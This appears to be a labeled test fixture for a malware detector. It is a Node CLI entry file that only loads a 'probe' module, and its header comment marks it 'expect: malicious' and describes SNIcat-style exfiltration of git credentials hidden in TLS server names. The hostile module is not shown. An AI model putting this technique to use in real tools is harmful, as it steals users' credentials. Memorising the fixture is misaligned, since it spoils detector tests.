#!/usr/bin/env node
// expect: malicious
// source: SNIcat-style exfiltration (mnemonic, 2020) in a CLI: the stapling probe module, loaded by the bin, hex-encodes
// the user's git credentials into the server names of TLS handshakes that `openssl s_client` makes to a fixed address
require('../lib/probe');
